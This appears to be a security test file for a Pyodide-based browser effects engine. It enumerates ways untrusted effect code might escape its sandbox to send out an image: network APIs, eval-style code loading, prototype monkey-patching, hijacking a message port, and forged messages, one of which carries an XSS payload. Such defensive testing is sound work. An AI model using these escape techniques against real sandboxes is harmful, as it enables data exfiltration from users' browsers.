"""Ways by which an effect of somebody else's could get a picture out, as Python that an effect can run.

Each value has the body of a coroutine, and a pattern of what it ends with. The body sees `js`, `other` and `own` (URLs
of another origin and of the page's, with a marker in them), `socket` and `own_socket` (the same for WebSockets), `path`
(a file of the site that does not exist, with the marker) and `host` (what the engine asks JavaScript by).
"""

from __future__ import annotations

import json

MISSING = r"AttributeError: \w+$"
NO_CODE = r"EvalError|Refused to evaluate|unsafe-eval"
READ_ONLY = "read only property|is read-only"

CATCH_THE_IMPORT = """
import pyodide_js
kept, found = js.Object.defineProperty, []
def spy(target, name, descriptor):
    if getattr(descriptor, 'value', None) == 'loadScript':
        found.append(target)
    return kept(target, name, descriptor)
spied = create_proxy(spy)
js.self.importScripts = js.Map  # which throws a TypeError when it is called
"""
"""Pyodide's start names a function that has an `import()`, by what `Object.defineProperty` is then."""
START_AGAIN = """
pyodide_js._module.LDSO.loadedLibsByName['__main__'].exports.pyodide_js_init()
await found[0](own)
"""

ESCAPES: dict[str, tuple[str, str]] = {
    # --- the browser's own ways out ---
    "fetch": ("await js.fetch(other)", MISSING),
    "fetch-own": ("await js.fetch(own)", MISSING),
    "fetch-of-a-prototype": ("await js.Object.getPrototypeOf(js.self).fetch(own)", MISSING),
    "fetch-by-reflection": ("await js.Reflect.get(js.self, 'fetch')(own)", "TypeError"),
    "request": ("js.Request.new(own)", MISSING),
    "xhr": ("r = js.XMLHttpRequest.new(); r.open('GET', own, False); r.send()", MISSING),
    "websocket": ("js.WebSocket.new(socket); await asyncio.sleep(0.3)", MISSING),
    "websocket-own": ("js.WebSocket.new(own_socket); await asyncio.sleep(0.3)", MISSING),
    "eventsource": ("js.EventSource.new(other); await asyncio.sleep(0.3)", MISSING),
    "webtransport": ("js.WebTransport.new(other.replace('http:', 'https:'))", MISSING),
    "beacon": ("js.navigator.sendBeacon(own, 'mark')", MISSING),
    "font": ("await js.FontFace.new('f', f'url({own})').load()", MISSING),
    "import-scripts": ("js.importScripts(own)", MISSING),
    "notification": ("js.Notification.new('x')", MISSING),
    "filter-of-a-canvas": (
        "c = js.OffscreenCanvas.new(8, 8).getContext('2d'); c.filter = f'url({other}#f)';"
        "c.fillRect(0, 0, 8, 8); await asyncio.sleep(0.3); return 'painted'",
        "OPEN: 'painted'",  # nothing is asked for: the hits tell
    ),
    "peer-connection": ("js.RTCPeerConnection.new()", MISSING),
    # --- code out of a text, where `import()` would be ---
    "eval": ("return await js.eval(f'import({own!r})')", NO_CODE),
    "function": ("return await js.Function.new('u', 'return import(u)')(own)", NO_CODE),
    "function-of-a-constructor": ("return await js.Object.constructor('return import(' + repr(own) + ')')()", NO_CODE),
    "run_js": ("from pyodide.code import run_js\nreturn await run_js(f'import({own!r})')", NO_CODE),
    "timer-of-text": (
        "js.setTimeout(f'import({own!r})', 0); await asyncio.sleep(0.3); return 'asked'",
        "OPEN|EvalError",
    ),
    "page-engine": (
        "from pyselfie.browser.page_engine import _import_module\nawait _import_module(own)",
        NO_CODE,
    ),
    "factory-of-pyodide": (
        "again = js._createPyodideModule"
        + CATCH_THE_IMPORT
        + "js.Object.defineProperty = spied\nagain(js.Object.new())\nawait found[0](own)",
        MISSING,
    ),
    "start-of-pyodide": (CATCH_THE_IMPORT + "js.Object.defineProperty = spied" + START_AGAIN, READ_ONLY),
    "start-of-pyodide-with-another-object": (
        CATCH_THE_IMPORT
        + "own_object = js.Object.assign(js.Object.create(js.Object), to_js({}))\n"
        + "kept(own_object, 'defineProperty', to_js({'value': spied}, dict_converter=js.Object.fromEntries))\n"
        + "js.self.Object = own_object"
        + START_AGAIN,
        READ_ONLY,
    ),
    "another-boot": (
        "line = steal_line(host)\n"
        "boot = {'type': 'boot', 'backend': 'wasm', 'painter': 'canvas2d', 'verdicts': '{}', 'fresh': False}\n"
        "event = to_js({'data': boot}, dict_converter=js.Object.fromEntries)\n"
        "kept = js.Reflect.getOwnPropertyDescriptor(js.URL.prototype, 'href')\n"
        "fake = to_js({'value': own, 'configurable': True}, dict_converter=js.Object.fromEntries)\n"
        "line.dispatchEvent(js.MessageEvent.new('message', event))\n"
        "await asyncio.sleep(0)\n"
        "js.Reflect.defineProperty(js.URL.prototype, 'href', fake)  # which `import()` is given\n"
        "await asyncio.sleep(1)\n"
        "js.Reflect.defineProperty(js.URL.prototype, 'href', kept)\n"
        "return 'asked'",
        "OPEN: 'asked'",  # the hits tell
    ),
    "blob-url": ("js.URL.createObjectURL(js.Blob.new(['1']))", MISSING),
    # --- other workers, other pages ---
    "worker": ("js.Worker.new(own)", MISSING),
    "worker-of-a-blob": ("js.Worker.new('blob:x')", MISSING),
    "shared-worker": ("js.SharedWorker.new(own)", MISSING),
    "broadcast": ("js.BroadcastChannel.new('x').postMessage('mark')", MISSING),
    "locks": ("await js.navigator.locks.request('mark', lambda lock: None)", MISSING),
    "service-worker": ("await js.navigator.serviceWorker.register(own)", MISSING),
    # --- what stores ---
    "indexeddb": ("js.indexedDB.open('mark')", MISSING),
    "idbfs": (
        "import pyodide_js\nreturn pyodide_js._module.IDBFS.indexedDB()",
        "OPEN: None",
    ),
    "cache": ("await js.caches.open('mark')", MISSING),
    "opfs": ("await js.navigator.storage.getDirectory()", MISSING),
    "old-file-system": ("js.webkitRequestFileSystemSync(0, 1)", MISSING),
    "cookies": ("await js.cookieStore.set('mark', '1')", MISSING),
    "local-storage": ("js.localStorage.setItem('mark', '1')", MISSING),
    # --- Python's and Pyodide's ---
    "pyfetch": ("from pyodide.http import pyfetch\nawait pyfetch(own)", "NameError: name '_jsfetch'"),
    "open_url": ("from pyodide.http import open_url\nopen_url(own)", "ImportError|AttributeError|NameError"),
    "load-package": (
        "import pyodide_js\nawait pyodide_js.loadPackage(own + '/x-1-py3-none-any.whl')",
        "OPEN: None",  # it only warns
    ),
    "load-package-other": (
        "import pyodide_js\nawait pyodide_js.loadPackage(other + '/x-1-py3-none-any.whl')",
        "OPEN: None",
    ),
    "micropip": ("import micropip\nawait micropip.install(other)", "ModuleNotFoundError"),
    "urllib": ("import urllib.request\nurllib.request.urlopen(other, timeout=1)", "Error"),
    "socket": ("import socket\nsocket.create_connection(('127.0.0.1', port), 1).send(b'mark')", "Error"),
    "lazy-file": (
        "from pyodide_js import FS\nFS.forceLoadFile(FS.createLazyFile('/', 'x', own, True, False))",
        "Error|Exception",
    ),
    "http-client": (
        "import http.client\nc = http.client.HTTPConnection('127.0.0.1', port, timeout=1); c.request('GET', '/mark')",
        "Error",
    ),
    # --- what the engine itself has ---
    "model": ("await host.loadModel('../../' + path, 'x')", "Error"),
    "model-elsewhere": ("await host.loadModel(other, 'x')", "Error"),
    "late-import": (
        "import sys\n[late] = [f for f in sys.meta_path if type(f).__name__ == 'LateImports']\n"
        "return late._fetch(path, True)",
        "OPEN: (None|js(undefined|null))",
    ),
    "files-of-the-page": (
        "line = steal_line(host)\n"
        "pair = js.MessageChannel.new()\n"
        "got = asyncio.get_running_loop().create_future()\n"
        "pair.port1.onmessage = create_proxy(lambda e: got.done() or got.set_result(str(e.data.to_py())))\n"
        "want = to_js({'type': 'want', 'path': path, 'cache': 'reload'}, dict_converter=js.Object.fromEntries)\n"
        "line.postMessage(want, to_js([pair.port2]))\n"
        "return await got",
        "none of pyselfie",
    ),
}

STATE: dict[str, object] = {"kind": "effect", "controls": [], "values": {}, "error": None, "running": "newest", "ms": 1}
CONTROL = {"name": "a", "kind": "choice", "default": "a", "choices": ["a"]}
FORGED = (
    {"type": "gpucheck", "channel": 1, "key": "mark", "entry": '{"backend": "webgpu"}', "ifItDies": None},
    {"type": "gpucheck", "channel": 1, "key": {"mark": 1}, "entry": ["x"], "ifItDies": 0},
    {"type": "reply", "channel": 1, "request": 1, "value": {"mark": "<img src=x onerror=alert(1)>"}},
    {"type": "notice", "channel": 1, "code": "x", "message": "mark" * 100_000},
    {"type": "progress", "loaded": "mark", "total": [], "text": {}},
    {"type": "stats", "channel": 1, "fps": "mark"},
    {"type": "effect", "channel": 1, "state": "{mark", "printed": None},
    {"type": "effect", "channel": 1, "state": '{"controls": "mark"}', "printed": None},
    *(
        {"type": "effect", "channel": 1, "state": json.dumps(STATE | wrong), "printed": None}
        for wrong in (
            {"ms": "mark"},
            {"kind": "mark"},
            {"running": "mark"},
            {"controls": [CONTROL | {"choices": {"mark": 1}}]},
            {"controls": [CONTROL | {"kind": "mark"}]},
        )
    ),
    {"type": "composite", "channel": 1, "frame": "mark"},
    {"type": "mark", "channel": 1},
    {"type": "__proto__", "channel": 1},
    {"channel": 1},
)
"""Messages that the page has to survive: of types that do not exist, and of ones that do with other fields."""

RUN = '''
import asyncio
import builtins
import gc
import json
import textwrap

import js
from pyodide.ffi import create_proxy, to_js

asked = json.loads(__ASKED__)
results = builtins.results = {}


def steal_line(host):
    """The port is nowhere to be found; but who uses it calls a function in whose place others can put their own."""
    found = []

    def steal(port, *sent):
        found.append(port)

    kept = js.MessagePort.prototype.postMessage
    js.MessagePort.prototype.postMessage = create_proxy(steal, capture_this=True)
    host.dropped()
    js.MessagePort.prototype.postMessage = kept
    return found[0]


def find_host():
    return next(each for each in gc.get_objects() if type(each).__name__ == "Reporter")._host


async def attempt(name, body):
    scope = dict(asked["urls"], js=js, asyncio=asyncio, host=find_host(), steal_line=steal_line, to_js=to_js)
    scope["create_proxy"] = create_proxy
    try:
        exec("async def go():\\n" + textwrap.indent(body, "    "), scope)
        results[name] = f"OPEN: {await asyncio.wait_for(scope['go'](), 5)!r}"
    except BaseException as error:
        results[name] = f"{type(error).__name__}: {error}"


async def all_of_them():
    for name, body in asked["bodies"].items():
        await attempt(name, body)
    host, line = find_host(), steal_line(find_host())
    for message in asked["forged"]:
        sent = to_js(message, dict_converter=js.Object.fromEntries)
        js.postMessage(sent)
        line.postMessage(sent)
        try:
            host.post(json.dumps(message))
        except Exception:
            pass
    results["done"] = "done"


builtins.task = asyncio.ensure_future(all_of_them())


def effect(frame, mask, time):
    return frame
'''
"""An effect that tries them all, once its text has been read."""

TELL = """
import builtins
import json


def effect(frame, mask, time):
    if "done" in builtins.results:
        for name, result in builtins.results.items():
            print(json.dumps([name, result[:150]]))
    return 255 - frame
"""
"""An effect that prints how that went."""
